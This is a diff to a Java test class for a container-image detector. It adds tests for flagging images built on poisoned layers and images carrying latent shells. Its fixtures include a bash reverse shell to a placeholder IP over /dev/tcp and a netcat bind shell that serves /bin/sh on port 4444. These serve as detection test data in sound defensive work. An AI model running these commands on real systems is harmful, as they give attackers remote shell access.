@@ -5,7 +5,9 @@ import static io.firedamp.detectors.image.Images.MINER;
 import static io.firedamp.detectors.image.Images.MORNING;
 import static io.firedamp.detectors.image.Images.OTHER_DIGEST;
 import static io.firedamp.detectors.image.Images.after;
+import static io.firedamp.detectors.image.Images.layer;
 import static io.firedamp.detectors.image.Images.metadata;
+import static io.firedamp.detectors.image.Images.named;
 import static io.firedamp.detectors.image.Images.pull;
 import static io.firedamp.detectors.image.Images.running;
 import static org.assertj.core.api.Assertions.assertThat;
@@ -17,6 +19,7 @@ import io.firedamp.detectors.DetectorContract;
 import io.firedamp.detectors.DetectorHarness;
 import io.firedamp.schemas.avro.ContainerState;
 import io.firedamp.schemas.avro.Evidence;
+import io.firedamp.schemas.avro.ImageMetadata;
 import io.firedamp.schemas.avro.ImagePull;
 import io.firedamp.schemas.avro.RunState;
 import io.firedamp.schemas.avro.Severity;
@@ -24,6 +27,7 @@ import io.firedamp.schemas.avro.Signal;
 import java.time.Duration;
 import java.time.Instant;
 import java.util.ArrayList;
+import java.util.Collections;
 import java.util.Comparator;
 import java.util.List;
 import java.util.Map;
@@ -52,6 +56,8 @@ class ImageDetectorTest extends DetectorContract {
         "image-pulls",
         "images-by-cluster-repartition",
         "images-by-digest-repartition",
+        "images-by-layer-repartition",
+        "image-layers",
         "flagged-containers",
         "image-verdicts",
         "containers-by-digest",
@@ -66,6 +72,13 @@ class ImageDetectorTest extends DetectorContract {
         pull(EVIL, DIGEST, MORNING),
         metadata(DIGEST, MINER, MORNING.plusSeconds(1)),
         running("c1", EVIL, DIGEST, MORNING.plusSeconds(2)));
+  }
+
+  @Override
+  protected List<SpecificRecord> storedBy() {
+    List<SpecificRecord> events = new ArrayList<>(story());
+    events.add(named(APP, OTHER_DIGEST, List.of("/app"), layer(1)));
+    return events;
   }
 
   @Test
@@ -123,6 +136,77 @@ class ImageDetectorTest extends DetectorContract {
                   .containsExactlyInAnyOrder(
                       container.getEventId(), "metadata-" + DIGEST + "@" + MORNING);
             });
+  }
+
+  @Test
+  void flagsAnOwnBuildOnAFlaggedImageWhicheverIsSeenFirst() {
+    SpecificRecord flagged = named(EVIL, DIGEST, List.of("/app"), layer(1), layer(2));
+    SpecificRecord own =
+        named("registry.example/a:1", OTHER_DIGEST, List.of("/a"), layer(1), layer(2), layer(3));
+    SpecificRecord container = running("c1", "registry.example/a:1", OTHER_DIGEST, MORNING);
+
+    for (List<SpecificRecord> order :
+        List.of(
+            List.of(flagged, own, container),
+            List.of(own, container, flagged),
+            List.of(container, flagged, own))) {
+      assertThat(of("IMG-10", play(order)))
+          .singleElement()
+          .satisfies(
+              signal -> {
+                assertThat(signal.getSubject()).isEqualTo("prod/container/c1");
+                assertThat(signal.getDetail()).contains(layer(2)).contains(EVIL);
+                assertThat(signal.getTraits()).containsExactly("POISONED");
+                assertThat(signal.getWeight()).isEqualTo(24);
+              });
+    }
+  }
+
+  @Test
+  void leavesImagesAloneThatShareOnlyTheBaseOfAFlaggedOne() {
+    List<SpecificRecord> events =
+        List.of(
+            named(EVIL, DIGEST, List.of("/app"), layer(1), layer(2)),
+            named(APP, OTHER_DIGEST, List.of("/a"), layer(1), layer(3)),
+            running("c1", APP, OTHER_DIGEST, MORNING));
+
+    assertThat(of("IMG-10", play(events))).isEmpty();
+  }
+
+  @Test
+  void takesALineageBackWhenTheLayerTurnsOutToBeEverybodys() {
+    List<SpecificRecord> events = new ArrayList<>();
+    events.add(named(EVIL, DIGEST, List.of("/app"), layer(1), layer(2)));
+    events.add(named(APP, OTHER_DIGEST, List.of("/a"), layer(1), layer(2), layer(3)));
+    events.add(running("c1", APP, OTHER_DIGEST, MORNING));
+    List<SpecificRecord> official = new ArrayList<>(events);
+    official.add(named("docker.io/library/base:1", digest(99), List.of("/b"), layer(2)));
+    List<SpecificRecord> many = new ArrayList<>(events);
+    for (int i = 0; i < Layer.MOST_HOLDERS; i++) {
+      many.add(named("docker.io/acme/other:" + i, digest(i), List.of("/o"), layer(2), layer(4)));
+    }
+
+    assertThat(rules(standing(events))).contains("IMG-10");
+    assertThat(rules(standing(official))).doesNotContain("IMG-10");
+    assertThat(rules(standing(many))).doesNotContain("IMG-10");
+    assertThat(rules(standing(reversed(official)))).doesNotContain("IMG-10");
+    assertThat(rules(standing(reversed(many)))).doesNotContain("IMG-10");
+  }
+
+  @Test
+  void saysWhoFetchedALatentImageAndWhoRunsIt() {
+    List<String> shell = List.of("bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1");
+    List<SpecificRecord> events =
+        List.of(
+            pull(APP, DIGEST, MORNING),
+            metadata(DIGEST, shell, MORNING),
+            running("c1", APP, DIGEST, MORNING));
+
+    assertThat(of("IMG-09", play(events)))
+        .extracting(Signal::getSubject, Signal::getWeight, Signal::getTraits)
+        .containsExactlyInAnyOrder(
+            tuple("prod/workload/client//x/y", 16, List.of("PULLED")),
+            tuple("prod/container/c1", 34, List.of("LATENT")));
   }
 
   @Test
@@ -219,6 +303,12 @@ class ImageDetectorTest extends DetectorContract {
 
     try (DetectorHarness harness = new DetectorHarness(new ImageDetector(settings))) {
       assertThat(harness.publish(story()).signals()).isEmpty();
+
+      harness.publish(
+          named(EVIL, DIGEST, MINER, layer(1), layer(2)),
+          named(APP, OTHER_DIGEST, List.of("/a"), layer(1), layer(2), layer(3)),
+          running("c2", APP, OTHER_DIGEST, MORNING));
+      assertThat(harness.signals("IMG-10")).isEmpty();
     }
   }
 
@@ -330,7 +420,7 @@ class ImageDetectorTest extends DetectorContract {
       assertThat(expected.values())
           .as("seed %d", seed)
           .extracting(Signal::getRule)
-          .contains("IMG-01", "IMG-02", "IMG-05", "IMG-07");
+          .contains("IMG-01", "IMG-02", "IMG-05", "IMG-07", "IMG-08", "IMG-09", "IMG-10");
       assertThat(contents(actual)).as("seed %d", seed).isEqualTo(contents(expected));
     }
   }
@@ -373,7 +463,7 @@ class ImageDetectorTest extends DetectorContract {
       events.add(
           switch (random.nextInt(5)) {
             case 0 -> pull(images.get(image), digest, time);
-            case 1 -> metadata(digest, image < 2 ? MINER : List.of("run"), time);
+            case 1 -> layered(images.get(image), digest, image, time);
             case 2 -> running("c" + random.nextInt(30), images.get(image), time);
             default -> running("c" + random.nextInt(30), images.get(image), digest, time);
           });
@@ -381,6 +471,38 @@ class ImageDetectorTest extends DetectorContract {
     events.add(running("c-evil", EVIL, MORNING));
     events.sort(Comparator.comparing(ImageDetectorTest::timeOf));
     return events;
+  }
+
+  /** Two images mine and one lies in wait; both others of them are built on the first. */
+  private static ImageMetadata layered(String name, String digest, int image, Instant time) {
+    List<String> command =
+        switch (image) {
+          case 0, 1 -> MINER;
+          case 2 -> List.of("nc", "-lvp", "4444", "-e", "/bin/sh");
+          default -> List.of("run");
+        };
+    List<String> layers =
+        image == 0
+            ? List.of(layer(1), layer(2))
+            : List.of(layer(1), layer(image > 2 ? 9 : 2), layer(2 + image));
+    return ImageMetadata.newBuilder(named(name, digest, command, layers.toArray(String[]::new)))
+        .setEventId("metadata-" + digest + "@" + time)
+        .setTime(time)
+        .build();
+  }
+
+  private static String digest(int number) {
+    return "sha256:" + "%064x".formatted(number + 4096);
+  }
+
+  private static List<String> rules(Map<String, Signal> standing) {
+    return standing.values().stream().map(Signal::getRule).toList();
+  }
+
+  private static List<SpecificRecord> reversed(List<SpecificRecord> events) {
+    List<SpecificRecord> reversed = new ArrayList<>(events);
+    Collections.reverse(reversed);
+    return reversed;
   }
 
   /** Up to five minutes late, and every fourth twice. */
